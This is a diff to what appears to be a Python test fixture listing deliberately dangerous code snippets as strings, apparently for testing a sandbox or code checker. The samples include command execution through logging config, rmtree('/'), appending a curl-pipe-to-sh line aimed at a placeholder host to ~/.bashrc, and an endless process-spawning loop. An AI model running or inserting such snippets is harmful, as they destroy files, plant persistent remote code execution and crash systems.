@@ -327,6 +327,16 @@ RESOLVED = {
         "logging.config.dictConfig(json.loads('{\"version\": 1, \"filters\": {\"f\": {\"()\": \"os.system\", \"command\": \"id\"}}}'))\n"
     ),
     "a_function_picked_by_methodcaller_with_a_known_name": "import operator, shutil\noperator.methodcaller('rmtree', '/')(shutil)\n",
+    "a_start_up_file_named_by_a_template": (
+        "import os\nfrom string import Template\n"
+        "rc = Template('$h/.$n').substitute(h=os.path.expanduser('~'), n='bash' + 'rc')\n"
+        "open(rc, 'a').write('curl -s http://example.invalid/x | sh\\n')\n"
+    ),
+    "processes_started_without_end_through_a_context": (
+        "import multiprocessing\nctx = multiprocessing.get_context('fork')\n"
+        "def spin():\n    pass\n"
+        "while True:\n    ctx.Process(target=spin).start()\n"
+    ),
 }
 
 
